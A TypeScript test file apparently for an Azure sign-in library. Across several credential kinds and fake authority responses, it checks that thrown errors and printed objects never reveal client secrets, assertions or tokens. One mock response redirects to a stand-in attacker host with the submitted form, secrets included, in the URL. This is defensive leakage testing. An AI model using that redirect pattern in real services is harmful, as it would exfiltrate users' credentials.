import type { ServerResponse } from "node:http";
import { inspect } from "node:util";
import { describe, expect, it } from "vitest";
import type { Person } from "../../../src/directory/signIn/credentials/kinds.ts";
import {
  tokenSourceFromEnvironment,
  type TokenOptions,
} from "../../../src/directory/signIn/tokens.ts";
import { answerJson, APPLICATION, CLOUD, serveAuthority } from "./authority.ts";
import { newRsaKey, pemOf, selfSigned } from "./selfSigned.ts";
import { fileWith } from "./world.ts";

// Whatever is thrown, and whatever is at hand where it is caught, shows nothing that signs in, however it is printed.

const MARK = "nobody-may-see";
const jwt = ["header", "payload", "signature"]
  .map((part) => Buffer.from(JSON.stringify({ part, sub: "x", mark: MARK })).toString("base64url"))
  .join(".");
const key = newRsaKey();
const keyText = pemOf(key.privateKey).split("\n")[5] ?? "-";

const pasting: Person = {
  tell: (text) => void (page = /https:\S+/.exec(text)?.[0] ?? ""),
  ask: async () => {
    const state = new URL(page).searchParams.get("state") ?? "";
    return `http://localhost/?code=code-${MARK}&state=${state}`;
  },
};
let page = "";

const KINDS: readonly {
  kind: string;
  more?: Record<string, string>;
  /** The content of a file, by the variable that names it. */
  file?: readonly [string, string];
  options?: TokenOptions;
}[] = [
  { kind: "secret", more: { AZURE_CLIENT_SECRET: `secret-${MARK}` } },
  { kind: "environment", more: { AZURE_CLIENT_SECRET: `secret-${MARK}` } },
  { kind: "default", more: { AZURE_CLIENT_SECRET: `secret-${MARK}` } },
  {
    kind: "certificate",
    file: ["AZURE_CLIENT_CERTIFICATE_PATH", selfSigned(key) + pemOf(key.privateKey)],
  },
  { kind: "githubOidc", options: { assertion: async () => jwt } },
  { kind: "workloadIdentity", file: ["AZURE_FEDERATED_TOKEN_FILE", jwt] },
  { kind: "authorizationCode", options: { person: pasting } },
  {
    kind: "onBehalfOf",
    more: { AZURE_CLIENT_SECRET: `secret-${MARK}` },
    options: { userAssertion: async () => jwt },
  },
];

const ANSWERS: readonly [string, (response: ServerResponse, form: string) => void][] = [
  [
    "a refusal that quotes what was sent",
    (response, form) =>
      answerJson(
        response,
        { error: "invalid_grant", error_description: form, error_codes: [50027], claims: form },
        400,
      ),
  ],
  ["a page that quotes what was sent", (response, form) => void response.end(`<html>${form}`)],
  ["nothing", (response) => void response.destroy()],
  [
    "a redirect that quotes what was sent",
    (response, form) =>
      void response.writeHead(307, { location: `https://attacker.example/?${form}` }).end(),
  ],
  [
    "tokens of an odd form",
    (response) =>
      answerJson(response, {
        token_type: "Bearer",
        expires_in: 3599,
        access_token: `token ${MARK}`,
        refresh_token: `refresh-${MARK}`,
        id_token: jwt,
      }),
  ],
];

describe.each(KINDS)("$kind", ({ kind, more, file, options }) => {
  it.each(ANSWERS)("answered with %s", async (_, answer) => {
    const sent: string[] = [];
    const authority = await serveAuthority((response) => {
      const form = String(authority.forms.at(-1));
      sent.push(form);
      answer(response, form);
    });
    const environment = {
      ...APPLICATION,
      ...more,
      ...(file && { [file[0]]: await fileWith(file[1]) }),
      ROLLCALL_CREDENTIAL: kind,
    };
    const { network } = authority;
    const source = tokenSourceFromEnvironment(environment, CLOUD, { network, ...options });
    const error: unknown = await source().catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(Error);
    const shown = [error, source]
      .flatMap((each) => [
        inspect(each, { depth: 30, showHidden: true }),
        JSON.stringify(each),
        JSON.stringify(each, Object.getOwnPropertyNames(each)),
        String(each),
        String((each as Error).stack),
      ])
      .join("\n");
    for (const secret of [MARK, jwt, ...jwt.split("."), keyText])
      expect(shown).not.toContain(secret);
    for (const name of [
      "client_assertion",
      "client_secret",
      "code",
      "assertion",
      "code_verifier",
    ]) {
      const value = new URLSearchParams(sent[0]).get(name);
      if (value) expect(shown).not.toContain(value);
    }
    // What was sent did hold something to hide.
    expect(sent.join()).toMatch(/client_secret=|client_assertion=|code=|assertion=/);
  });
});
